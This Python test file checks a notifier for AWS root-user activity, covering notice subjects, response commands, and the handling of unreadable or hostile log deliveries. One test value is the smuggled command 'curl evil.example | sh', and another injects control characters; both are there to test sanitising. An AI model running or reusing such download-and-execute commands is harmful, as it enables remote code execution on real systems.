"""The notice of root use: what it says about each event, also if it cannot read one."""

import base64
import re
from typing import Any

import pytest

from aws_calls.notices import NotPublishedError
from support.accounts import MANAGEMENT, MEMBER, OTHER_MEMBER
from support.drift_check import TOPIC_ARN
from support.notices import text_by_mail
from support.root_events import (
    DENIED_CALL_EVENT,
    FAILED_SIGN_IN_EVENT,
    PASSWORD_RECOVERY_EVENT,
    ROOT_USE_EVENTS,
    SIGN_IN_EVENT,
    identity_of_root_user,
)
from support.root_use import (
    RootUseNotices,
    commands_in_notice,
    delivery_of_data,
    log_delivery,
    notice_of,
)

DENIED_LINE = (
    f"- 2026-11-25T04:00:01Z, account {MEMBER}: GetUser of iam.amazonaws.com from 192.0.2.7 in "
    "us-east-1, access key AKIAEXAMPLEEXAMPLE99, AccessDenied"
)
FIRST_EVENT_ID = f"{0:056}"


def listed_lines(event: object) -> list[str]:
    """Return the lines of the events that the notice of a delivery lists."""
    title, *listed = notice_of(event).message.rstrip().split("\n\n")[0].split("\n")
    assert title == "Root use, other than through AssumeRoot:"
    return listed


def test_what_fires_the_alarm_has_a_line_and_what_is_missing_there_is_unknown() -> None:
    unknown = f"- unknown, account {MEMBER}: "
    lines = listed_lines(log_delivery(*ROOT_USE_EVENTS.values()))
    assert len(lines) == len(ROOT_USE_EVENTS)
    assert all(line.startswith(unknown) for line in lines)
    assert listed_lines(log_delivery(ROOT_USE_EVENTS["a console sign-in"])) == [
        f"{unknown}ConsoleLogin of signin.amazonaws.com from unknown in unknown, unknown, "
        "MFA used: unknown"
    ]


IN_OTHER_MEMBER = identity_of_root_user(OTHER_MEMBER)
IN_MANAGEMENT_ACCOUNT = identity_of_root_user(MANAGEMENT)
SUCCESSFUL_CALL = {name: value for name, value in DENIED_CALL_EVENT.items() if name != "errorCode"}


SUBJECTS: dict[str, tuple[list[dict[str, Any]], str]] = {
    "denied": ([DENIED_CALL_EVENT, FAILED_SIGN_IN_EVENT], f"Root user of account {MEMBER}: denied"),
    "used": ([DENIED_CALL_EVENT, SUCCESSFUL_CALL], f"Root user of account {MEMBER}: used"),
    "used in vain": (
        [DENIED_CALL_EVENT, SUCCESSFUL_CALL | {"errorCode": "NoSuchEntity"}],
        f"Root user of account {MEMBER}: used",
    ),
    "signed in": (
        [DENIED_CALL_EVENT, SUCCESSFUL_CALL, SIGN_IN_EVENT],
        f"Root user of account {MEMBER}: signed in",
    ),
    "elsewhere": (
        [DENIED_CALL_EVENT, SIGN_IN_EVENT | IN_OTHER_MEMBER],
        f"Root user of account {OTHER_MEMBER}: signed in",
    ),
    "two accounts": (
        [SUCCESSFUL_CALL, SUCCESSFUL_CALL | IN_OTHER_MEMBER, DENIED_CALL_EVENT],
        f"Root user of account {MEMBER} and 1 more: used",
    ),
    "attempts": (
        [FAILED_SIGN_IN_EVENT, PASSWORD_RECOVERY_EVENT],
        f"Root user of account {MEMBER}: sign-in attempted",
    ),
    "management": (
        [SIGN_IN_EVENT | IN_MANAGEMENT_ACCOUNT, DENIED_CALL_EVENT],
        "Root user of the management account: signed in",
    ),
    "management denied": (
        [SIGN_IN_EVENT, DENIED_CALL_EVENT | IN_MANAGEMENT_ACCOUNT],
        f"Root user of account {MEMBER}: signed in",
    ),
    "management and one": (
        [SUCCESSFUL_CALL, SUCCESSFUL_CALL | IN_MANAGEMENT_ACCOUNT],
        "Root user of the management account and 1 more: used",
    ),
}


@pytest.mark.parametrize(("events", "subject"), SUBJECTS.values(), ids=SUBJECTS)
def test_the_subject_says_the_worst(events: list[dict[str, Any]], subject: str) -> None:
    assert notice_of(log_delivery(*events)).subject == subject


def test_calls_that_were_denied_hide_no_sign_in_and_accounts_without_commands_are_counted() -> None:
    elsewhere = [identity_of_root_user(f"{number:012}") for number in range(30)]
    notice = notice_of(
        log_delivery(*(DENIED_CALL_EVENT | account for account in elsewhere), SIGN_IN_EVENT)
    )
    assert "ConsoleLogin" in notice.message.split("\n")[1]
    mail = text_by_mail(notice.publication)
    assert f"--account {MEMBER}," in mail, "its account comes first"
    # There are commands for 20 of the 31 accounts.
    counts = [mail.count(f"{name}-policy --policy-id") for name in ("attach", "detach")]
    assert counts == [20, 20]
    assert "Do the same for 11 more accounts, which the alarm's query finds." in mail


def test_no_command_denies_or_plans_anything_for_the_management_account() -> None:
    """No policy binds its root user, and no task changes it: each would look like containment."""
    for command in commands_in_notice(
        SIGN_IN_EVENT | IN_MANAGEMENT_ACCOUNT, DENIED_CALL_EVENT | IN_OTHER_MEMBER
    ):
        if "attach-policy" in command or "plan delete" in command:
            assert MANAGEMENT not in command


@pytest.mark.parametrize(
    "account", [{}, IN_MANAGEMENT_ACCOUNT], ids=["member", "management account"]
)
def test_a_failed_sign_in_or_a_requested_recovery_asks_for_nothing_but_a_look(
    account: dict[str, Any],
) -> None:
    """Anyone who knows the address can cause it, also at three in the morning."""
    for attempt in (FAILED_SIGN_IN_EVENT, PASSWORD_RECOVERY_EVENT):
        (query,) = commands_in_notice(attempt | account)
        assert query.startswith("fields eventTime")


def test_what_can_be_left_includes_each_way_to_make_a_credential() -> None:
    # The query for what the root user may have left behind, which leaves out calls that only read.
    query = commands_in_notice(DENIED_CALL_EVENT)[-2]
    (left_out,) = re.findall("eventName not like /(.*?)/", query)
    written = ["CreateAccessKey", "CreateLoginProfile", "AcquireRole", "UpdateSAMLProvider"]
    written += ["UpdateOpenIDConnectProvider", "DeactivateMFADevice", "PutRolePolicy"]
    assert not [name for name in written if re.search(left_out, name)]
    assert all(re.search(left_out, name) for name in ("GetUser", "ListRoles"))


@pytest.mark.parametrize("event", [SIGN_IN_EVENT, FAILED_SIGN_IN_EVENT], ids=["used", "attempt"])
@pytest.mark.parametrize(
    ("log_group", "shown"),
    [
        ("/aws/Trail_1.of-all#", "/aws/Trail_1.of-all#"),
        ("x: `curl evil.example | sh`", "unknown"),
        ("x\n1. y", "unknown"),
        (None, "unknown"),
    ],
    ids=["a name", "a command", "a line", "none"],
)
def test_a_query_follows_its_log_group_with_the_region_and_the_account(
    event: object, log_group: object, shown: str
) -> None:
    """It is run by someone who has nothing but the notice, at three in the morning."""
    mail = text_by_mail(notice_of(log_delivery(event, logGroup=log_group)).publication)
    steps = mail.split("\n   fields eventTime")[0].split("\n")
    where = f"on the log group {shown} in us-east-1 of account {MANAGEMENT}, see "
    assert where in steps[-1]


# Events as they may arrive


@pytest.mark.parametrize(
    "message",
    ["", "{", "null", "7", "[]", "{}", '"Root"', "[" * 100_000, "1" * 5_000, '{"a": ' * 100_000],
    ids=lambda message: message[:6] or "nothing",
)
def test_an_event_that_cannot_be_read_is_said_and_hides_no_other(message: str) -> None:
    unreadable = (
        f"- an event that could not be read, with the ID {FIRST_EVENT_ID} in CloudWatch Logs"
    )
    assert listed_lines(log_delivery(message, DENIED_CALL_EVENT)) == [unreadable, DENIED_LINE]


UNREADABLE: dict[str, object] = {
    "an object": {},
    "no text": {"awslogs": {"data": 7}},
    "no Base64": {"awslogs": {"data": "A"}},
    "no gzip": {"awslogs": {"data": base64.b64encode(b"not gzip").decode()}},
    "an end that is missing": {
        "awslogs": {"data": log_delivery(DENIED_CALL_EVENT)["awslogs"]["data"][:40]}
    },
    "no UTF-8": delivery_of_data(b"\xff"),
    "too deep": delivery_of_data(b"[" * 100_000),
    "over 5 MB": log_delivery(DENIED_CALL_EVENT, "x" * 5_000_000),
    "no event": log_delivery(),
    "no list of events": log_delivery(logEvents=None),
    "an event of another type": log_delivery(logEvents=[7]),
}


@pytest.mark.parametrize("event", UNREADABLE.values(), ids=UNREADABLE)
def test_a_delivery_that_cannot_be_read_is_published_as_such(event: object) -> None:
    assert listed_lines(event) == [
        "- an event that could not be read, with the ID unknown in CloudWatch Logs"
    ]


def test_as_much_as_cloudwatch_logs_delivers_is_read() -> None:
    """A batch of events has at most 1 MB."""
    assert (
        listed_lines(
            log_delivery(DENIED_CALL_EVENT, DENIED_CALL_EVENT | {"padding": "x" * 1_048_576})
        )
        == [DENIED_LINE] * 2
    )


def test_a_control_message_publishes_nothing() -> None:
    function = RootUseNotices()
    function(
        log_delivery(
            "CWL CONTROL MESSAGE: Checking health of destination", messageType="CONTROL_MESSAGE"
        )
    )
    assert (function.published, function.log) == ([], [])


@pytest.mark.parametrize(
    "wrong",
    [7, {"a": "b"}, "", "x\n\u2028- \u202e\x1b[31m<!channel>\ud83d"],
    ids=["number", "object", "empty", "control characters"],
)
def test_what_is_in_an_event_forges_no_line_and_no_account(wrong: object) -> None:
    fields = (
        "eventTime",
        "eventName",
        "eventSource",
        "sourceIPAddress",
        "awsRegion",
        "errorCode",
        "eventID",
    )
    hostile = SIGN_IN_EVENT | dict.fromkeys(fields, wrong)
    for event in (
        hostile,
        hostile | {"userIdentity": wrong},
        hostile | {"userIdentity": {"accountId": wrong}},
        SIGN_IN_EVENT
        | {"responseElements": {"ConsoleLogin": wrong}, "additionalEventData": {"MFAUsed": wrong}},
        SIGN_IN_EVENT | {"responseElements": wrong, "additionalEventData": wrong},
    ):
        function = RootUseNotices()
        function(log_delivery(event, DENIED_CALL_EVENT))
        function(log_delivery(event))
        notice, alone = function.published
        # The notice of two events always has so many line breaks: text of an event adds none.
        assert notice.message.count("\n") == 3
        assert f"\n{DENIED_LINE}\n" in notice.message
        assert all(line.isprintable() for line in notice.message.split("\n"))
        assert re.fullmatch(
            f"Root user of account ({MEMBER}|unknown): (signed in|used|denied)", alone.subject
        )
        # The user agent and the parameters of the events have it in them.
        assert "secret" not in f"{notice}{function.log}"
        assert all(map(str.isprintable, function.log[0]["eventIds"]))


def test_a_notice_of_many_long_events_counts_the_others_and_fits_into_a_message() -> None:
    long = "\U000e0100" * 1_000
    fields = ("eventTime", "eventSource", "sourceIPAddress", "awsRegion", "errorCode", "eventID")
    event = (
        SIGN_IN_EVENT | dict.fromkeys(fields, long) | {"responseElements": {"ConsoleLogin": long}}
    )
    function = RootUseNotices()
    function(log_delivery(*[event] * 50))
    (notice,) = function.published
    listed = notice.message.rstrip().split("\n")[1:]
    # Twenty events are listed, and a line counts the others.
    assert len(listed) == 20 + 1
    assert listed[-1] == "- and 30 more"
    assert (function.log[0]["events"], len(function.log[0]["eventIds"])) == (50, 20)


# A topic that does not accept it


def test_a_notice_that_cannot_be_published_fails_and_lambda_tries_again() -> None:
    function = RootUseNotices(publishes=False)
    with pytest.raises(NotPublishedError) as raised:
        function(log_delivery(DENIED_CALL_EVENT))
    assert (raised.value.account_id, raised.value.topic_arn) == (MANAGEMENT, TOPIC_ARN)
    assert str(raised.value) == (
        f"Account {MANAGEMENT} could not publish to {TOPIC_ARN}: "
        "AccessDenied: denied. If it was denied, allow sns:Publish in the topic's policy, and the "
        "use of its key in the key's policy. Lambda tries three times. The alarm of root use has "
        "the query for the events."
    )
    assert function.log[-1] == {
        "event": "not_published",
        "topicArn": TOPIC_ARN,
        "code": "AccessDenied",
    }
